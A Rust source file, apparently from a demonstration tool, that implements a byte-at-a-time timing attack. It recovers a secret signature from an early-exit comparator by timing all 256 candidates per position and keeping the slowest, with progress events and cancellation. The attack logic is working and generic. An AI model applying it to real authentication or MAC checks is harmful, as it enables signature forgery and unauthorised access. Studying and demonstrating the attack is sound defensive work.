//! Byte-at-a-time signature recovery.

use tokio::sync::{mpsc, watch};
use tokio_util::sync::CancellationToken;

use crate::comparator::Oracle;
use crate::error::{Error, Result};
use crate::measurement::Sampler;
use crate::types::{AttackPhase, ByteTiming, Digest};

use super::event::AttackEvent;
use super::state::RecoveryState;

/// How a run that did not error ended.
#[derive(Debug, Clone, PartialEq)]
pub enum RunOutcome {
    /// Every position was resolved.
    ///
    /// The engine does not know whether `recovered` is correct; the caller
    /// compares it against the real digest.
    Completed {
        /// Best-effort signature.
        recovered: Digest,
        /// Comparator calls issued during the run.
        comparator_calls: u64,
    },

    /// The cancellation token fired between two candidates.
    Cancelled {
        /// Bytes resolved before cancellation.
        recovered_prefix: Digest,
        /// Comparator calls issued before cancellation.
        comparator_calls: u64,
    },
}

impl RunOutcome {
    /// Comparator calls issued during the run.
    pub fn comparator_calls(&self) -> u64 {
        match self {
            RunOutcome::Completed { comparator_calls, .. }
            | RunOutcome::Cancelled { comparator_calls, .. } => *comparator_calls,
        }
    }
}

/// Running maximum with first-seen tie-breaking.
///
/// A later candidate only replaces the current best if its latency is
/// strictly greater, so among equal maxima the lowest candidate wins.
#[derive(Debug, Clone, Copy, Default)]
pub struct BestCandidate {
    best: Option<ByteTiming>,
}

impl BestCandidate {
    /// Offer a measurement.
    pub fn observe(&mut self, timing: ByteTiming) {
        match self.best {
            Some(current) if timing.time_ms <= current.time_ms => {}
            _ => self.best = Some(timing),
        }
    }

    /// Byte with the highest latency seen so far.
    pub fn byte(&self) -> Option<u8> {
        self.best.map(|t| t.byte)
    }

    /// Highest latency seen so far.
    pub fn time_ms(&self) -> Option<f64> {
        self.best.map(|t| t.time_ms)
    }
}

/// `prefix ++ [candidate] ++ zeros`, exactly `total_bytes` long.
///
/// The zero suffix never influences latency because the comparator stops at
/// the first mismatch.
pub fn build_candidate(prefix: &[u8], candidate: u8, total_bytes: usize) -> Vec<u8> {
    debug_assert!(prefix.len() < total_bytes);
    let mut signature = Vec::with_capacity(total_bytes);
    signature.extend_from_slice(prefix);
    signature.push(candidate);
    signature.resize(total_bytes, 0);
    signature
}

/// Drives the recovery loop and owns the [`RecoveryState`].
///
/// Progress is published two ways: as [`AttackEvent`]s on an unbounded
/// channel, and as state snapshots on a `watch` channel. Both are optional.
#[derive(Debug, Default)]
pub struct AttackEngine {
    state: RecoveryState,
    events: Option<mpsc::UnboundedSender<AttackEvent>>,
    snapshots: Option<watch::Sender<RecoveryState>>,
    detach: Option<CancellationToken>,
}

impl AttackEngine {
    /// Create an idle engine with no observers.
    pub fn new() -> Self {
        Self::default()
    }

    /// Send progress events to `tx`.
    pub fn with_events(mut self, tx: mpsc::UnboundedSender<AttackEvent>) -> Self {
        self.events = Some(tx);
        self
    }

    /// Publish state snapshots to `tx`.
    pub fn with_snapshots(mut self, tx: watch::Sender<RecoveryState>) -> Self {
        self.snapshots = Some(tx);
        self
    }

    /// Stop publishing snapshots once `token` fires.
    ///
    /// Lets a controller hand the snapshot channel to a newer run while this
    /// one is still winding down. The check runs under the channel's lock, so
    /// nothing is published after the controller's own update that follows
    /// cancelling `token`.
    pub fn detach_snapshots_on(mut self, token: CancellationToken) -> Self {
        self.detach = Some(token);
        self
    }

    /// Current recovery state.
    pub fn state(&self) -> &RecoveryState {
        &self.state
    }

    /// Current phase.
    pub fn phase(&self) -> AttackPhase {
        self.state.phase()
    }

    /// Return to idle from any phase.
    pub fn reset(&mut self) {
        self.state.reset();
        self.publish_state();
        self.emit(AttackEvent::PhaseChanged {
            phase: AttackPhase::Idle,
        });
    }

    /// Recover `total_bytes` of the signature `oracle` checks against.
    ///
    /// For every position all 256 candidates are timed in ascending order
    /// and the one with the strictly greatest median latency is kept.
    /// The engine yields to the runtime before every candidate, so progress
    /// consumers and cancellation get a turn even when the comparator never
    /// sleeps. Cancellation is honoured between candidates only; an
    /// in-flight sampler call always finishes.
    ///
    /// # Errors
    ///
    /// - [`Error::DigestUnavailable`] if the oracle has no reference digest
    ///   (the engine moves to `Error`).
    /// - [`Error::TerminalState`] if the engine is `Complete` or `Error` and
    ///   has not been reset.
    pub async fn run<O: Oracle>(
        &mut self,
        oracle: &O,
        total_bytes: usize,
        samples_per_byte: usize,
        cancel: &CancellationToken,
    ) -> Result<RunOutcome> {
        if self.state.phase().is_terminal() {
            return Err(Error::TerminalState(self.state.phase()));
        }

        if oracle.digest_len() == 0 || total_bytes == 0 {
            let err = Error::DigestUnavailable;
            tracing::warn!("refusing to start attack: {}", err);
            self.state = RecoveryState::new(total_bytes);
            self.state.fail(err.to_string());
            self.publish_state();
            self.emit(AttackEvent::PhaseChanged {
                phase: AttackPhase::Error,
            });
            self.emit(AttackEvent::Failed {
                message: err.to_string(),
            });
            return Err(err);
        }

        if total_bytes != oracle.digest_len() {
            tracing::warn!(
                "attacking {} bytes of a {}-byte digest; every candidate will mismatch on length",
                total_bytes,
                oracle.digest_len()
            );
        }

        self.state = RecoveryState::new(total_bytes);
        self.state.begin()?;
        self.publish_state();
        self.emit(AttackEvent::PhaseChanged {
            phase: AttackPhase::Running,
        });
        tracing::info!(total_bytes, samples_per_byte, "attack started");

        let mut sampler = Sampler::new(oracle, samples_per_byte);
        let mut recovered: Vec<u8> = Vec::with_capacity(total_bytes);

        for position in 0..total_bytes {
            self.state.start_position();
            self.emit(AttackEvent::ByteStarted {
                position,
                total: total_bytes,
            });

            let mut best = BestCandidate::default();

            for candidate in 0..=u8::MAX {
                // Mismatching candidates never suspend inside the comparator
                tokio::task::yield_now().await;
                if cancel.is_cancelled() {
                    return Ok(self.cancelled(recovered, sampler.calls()));
                }

                let signature = build_candidate(&recovered, candidate, total_bytes);
                let time_ms = sampler.estimate(&signature).await;

                let timing = ByteTiming::new(candidate, time_ms);
                best.observe(timing);
                self.state.record(timing, best.byte());
                self.publish_state();
                self.emit(AttackEvent::CandidateTimed {
                    position,
                    timings: self.state.timings().to_vec(),
                    best: best.byte(),
                });
            }

            // 256 candidates were observed, so a best always exists
            let byte = best.byte().unwrap_or_default();
            recovered.push(byte);
            self.state.resolve(byte);
            self.publish_state();
            tracing::debug!(
                position,
                byte = %format!("{:02x}", byte),
                latency_ms = best.time_ms().unwrap_or_default(),
                "byte resolved"
            );
            self.emit(AttackEvent::ByteResolved {
                position,
                byte,
                recovered: Digest::from(recovered.as_slice()),
            });
        }

        self.state.complete();
        self.publish_state();
        self.emit(AttackEvent::PhaseChanged {
            phase: AttackPhase::Complete,
        });

        let recovered = Digest::from(recovered);
        tracing::info!(recovered = %recovered, calls = sampler.calls(), "attack complete");

        Ok(RunOutcome::Completed {
            recovered,
            comparator_calls: sampler.calls(),
        })
    }

    fn cancelled(&mut self, recovered: Vec<u8>, comparator_calls: u64) -> RunOutcome {
        tracing::info!(resolved = recovered.len(), "attack cancelled");
        self.state.cancel();
        self.publish_state();
        self.emit(AttackEvent::PhaseChanged {
            phase: AttackPhase::Idle,
        });
        RunOutcome::Cancelled {
            recovered_prefix: Digest::from(recovered),
            comparator_calls,
        }
    }

    fn emit(&self, event: AttackEvent) {
        if let Some(tx) = &self.events {
            // A dropped receiver just means nobody is watching
            let _ = tx.send(event);
        }
    }

    fn publish_state(&self) {
        let Some(tx) = &self.snapshots else { return };
        tx.send_if_modified(|current| {
            if self.detach.as_ref().is_some_and(|t| t.is_cancelled()) {
                return false;
            }
            *current = self.state.clone();
            true
        });
    }
}
